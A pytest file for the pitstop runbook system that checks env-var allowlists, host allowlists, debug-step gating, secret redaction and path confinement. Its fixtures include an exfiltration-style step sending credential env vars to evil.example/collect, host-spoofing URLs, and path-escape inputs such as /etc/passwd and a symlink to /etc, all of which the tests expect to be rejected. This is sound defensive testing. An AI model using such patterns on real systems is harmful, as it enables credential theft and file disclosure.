"""What runbook authors can reach: the env var allowlist, allowed hosts, debug steps (pure decisions), the
validation problems that refuse a runbook outside them (file:line, step, field, the variable or host named), the
catalog's escalation checks, redaction of free text and the confinement of `debug.wait`'s `record_to`."""

from __future__ import annotations

from pathlib import Path

import pytest
from temporalio.exceptions import ApplicationError

from pitstop.activities.runbook_debug import confined_record_file
from pitstop.config import Settings
from pitstop.redaction import MASK, redact_text
from pitstop.remediation import parse_catalog, reach_problems
from pitstop.runbook.reach import AuthorReach, configures_pitstop
from pitstop.runbook.validation import parse_runbook
from tests.fixtures.worker_reach import DEFAULT_REACH

HOSTS = AuthorReach(env_allowlist=["PITSTOP_RUNBOOK_*", "SLACK_URL"], allowed_hosts=["hooks.slack.com", "*.corp.example",
                    "127.0.0.1:8080", "[::1]:9000"])


def test_env_allowlist_patterns_and_pitstops_own_configuration() -> None:
    assert HOSTS.env_problem("PITSTOP_RUNBOOK_DEPLOY_TOKEN") is None and HOSTS.env_problem("SLACK_URL") is None
    assert "not in the worker's `security.env_allowlist` (PITSTOP_RUNBOOK_*, SLACK_URL)" in (HOSTS.env_problem("HOME") or "")
    everything = AuthorReach(env_allowlist=["*"], allowed_hosts=[])
    for name in ("PITSTOP_TEMPORAL__API_KEY", "PITSTOP_WEBHOOK__TOKEN", "PITSTOP_CONFIG", "pitstop_state_dir"):
        assert configures_pitstop(name)
        assert "configures pitstop itself" in (everything.env_problem(name) or ""), name
    assert not configures_pitstop("PITSTOP_RUNBOOK_X") and not configures_pitstop("PITSTOP_PAGER_WEBHOOK_URL")
    assert everything.env_problem("AWS_SECRET_ACCESS_KEY") is None  # an operator may allow anything else


def test_default_settings_allow_the_shipped_names_and_no_debug_steps() -> None:
    reach = AuthorReach.from_settings(Settings.model_validate({}))
    assert reach == DEFAULT_REACH
    assert reach.env_problem("PITSTOP_PAGER_WEBHOOK_URL") is None  # the shipped remediation catalog's escalation
    assert reach.url_problem("https://anything.example/x") is None  # no host list configured: any host
    assert "test-only debug step" in (reach.step_type_problem("debug.wait", debug=True) or "")
    assert reach.step_type_problem("log", debug=False) is None


@pytest.mark.parametrize(("url", "allowed"), [
    ("https://hooks.slack.com/services/T0/B0/x", True),
    ("https://HOOKS.SLACK.COM:443/x", True),
    ("https://api.corp.example/x", True),
    ("https://corp.example.evil.net/x", False),
    ("http://127.0.0.1:8080/ok", True),
    ("http://127.0.0.1:8081/no", False),
    ("http://127.0.0.1/no", False),
    ("http://[::1]:9000/ok", True),
    ("https://user:pw@hooks.slack.com.evil.net/x", False),
    ("not a url", False),
])
def test_allowed_hosts(url: str, allowed: bool) -> None:
    assert (HOSTS.url_problem(url) is None) == allowed, HOSTS.url_problem(url)


RUNBOOK = """\
name: reach
steps:
  - id: call
    uses: http.call
    with:
      url: https://evil.example/collect
      header_env: {Authorization: PITSTOP_RUNBOOK_TOKEN, X-Key: PITSTOP_TEMPORAL__API_KEY}
  - id: hidden
    uses: http.call
    with: {url_env: AWS_SECRET_ACCESS_KEY}
  - id: dynamic
    uses: http.call
    with: {url: "${{ inputs.url }}", header_env: {X-Any: "${{ inputs.env }}"}}
  - id: ask
    uses: approval
    with: {timeout: 1m, on_timeout: escalate, notify: {url_env: PITSTOP_RUNBOOK_PAGER, token_env: GITHUB_TOKEN}}
  - id: work
    uses: debug.wait
    with: {seconds: 1}
    compensate: {uses: debug.change, with: {what: undo}}
inputs:
  url: {type: string, default: "https://x.example"}
  env: {type: string, default: HOME}
"""


def test_validation_names_file_line_field_and_what_is_out_of_reach() -> None:
    reach = AuthorReach(env_allowlist=["PITSTOP_RUNBOOK_*"], allowed_hosts=["hooks.slack.com"])
    runbook, problems = parse_runbook(RUNBOOK, "reach.yaml", reach=reach)
    assert runbook is None
    messages = [str(p) for p in problems]
    expected = [
        "reach.yaml:6: step 'call', field 'with.url': host evil.example is not in the worker's `security.allowed_hosts`",
        "reach.yaml:7: step 'call', field 'with.header_env.X-Key': environment variable PITSTOP_TEMPORAL__API_KEY "
        "configures pitstop itself",
        "reach.yaml:10: step 'hidden', field 'with.url_env': environment variable AWS_SECRET_ACCESS_KEY is not in the "
        "worker's `security.env_allowlist` (PITSTOP_RUNBOOK_*)",
        "reach.yaml:13: step 'dynamic', field 'with.header_env.X-Any': an environment variable name must be written "
        "literally",
        "reach.yaml:16: step 'ask', field 'with.notify.token_env': environment variable GITHUB_TOKEN is not in",
        "reach.yaml:18: step 'work', field 'uses': step type 'debug.wait' is a test-only debug step",
        "reach.yaml:20: step 'work', field 'compensate.uses': step type 'debug.change' is a test-only debug step",
    ]
    for text in expected:
        assert any(m.startswith(text) for m in messages), (text, messages)
    assert len(messages) == len(expected), messages  # the allowlisted names and the computed URL pass validation


def test_the_same_runbook_is_valid_where_everything_is_allowed() -> None:
    reach = AuthorReach(env_allowlist=["PITSTOP_RUNBOOK_*", "AWS_*", "GITHUB_TOKEN", "X_*"], allowed_hosts=[],
                        debug_steps=True)
    text = (RUNBOOK.replace("PITSTOP_TEMPORAL__API_KEY", "X_KEY").replace('"${{ inputs.env }}"', "X_ANY")
            .replace('"${{ inputs.url }}"', "https://x.example/ok"))
    runbook, problems = parse_runbook(text, "reach.yaml", reach=reach)
    assert runbook is not None, [str(p) for p in problems]


def test_catalog_escalations_out_of_reach() -> None:
    catalog = parse_catalog({
        "defaults": {"escalation": {"url_env": "PITSTOP_PAGER_WEBHOOK_URL", "token_env": "PAGER_TOKEN"}},
        "rules": [{"name": "r", "match": {"alertname": "X"},
                   "target": {"service": {"label": "service"}, "namespace": {"label": "namespace"},
                              "region": {"label": "region"}},
                   "ladder": [{"name": "a", "runbook": "hello"}],
                   "escalation": {"url": "https://pager.evil.example/x"}}],
    })
    reach = AuthorReach(env_allowlist=["PITSTOP_PAGER_*"], allowed_hosts=["pager.corp.example"])
    problems = reach_problems(catalog, reach)
    assert problems[0].startswith("defaults.escalation.token_env: environment variable PAGER_TOKEN is not in")
    assert problems[1].startswith("rules.r.escalation.url: host pager.evil.example is not in")
    assert len(problems) == 2


def test_redact_text_masks_sent_secrets_and_credential_shapes() -> None:
    text = ('{"headers": {"Authorization": "Bearer abcdef123456"}, "api_key": "k-1", "echo": "my-sent-secret", '
            '"token": "ghp_0123456789abcdef", "name": "checkout", "count": 3}')
    redacted = redact_text(text, secrets=["my-sent-secret"])
    for secret in ("abcdef123456", "k-1", "my-sent-secret", "ghp_0123456789abcdef"):
        assert secret not in redacted
    assert '"name": "checkout"' in redacted and '"count": 3' in redacted and MASK in redacted
    assert redact_text("password=hunter2&user=bob") == f"password={MASK}&user=bob"


def test_record_to_is_confined_to_the_debug_record_dir(tmp_path: Path) -> None:
    inside = tmp_path / "runs" / "completions.txt"
    assert confined_record_file(str(inside), tmp_path) == inside.resolve()
    (tmp_path / "link").symlink_to("/etc")
    for outside in ("/etc/passwd", str(tmp_path / ".." / "escape.txt"), str(tmp_path / "link" / "passwd")):
        with pytest.raises(ApplicationError, match="outside the worker's debug record directory") as info:
            confined_record_file(outside, tmp_path)
        assert info.value.non_retryable
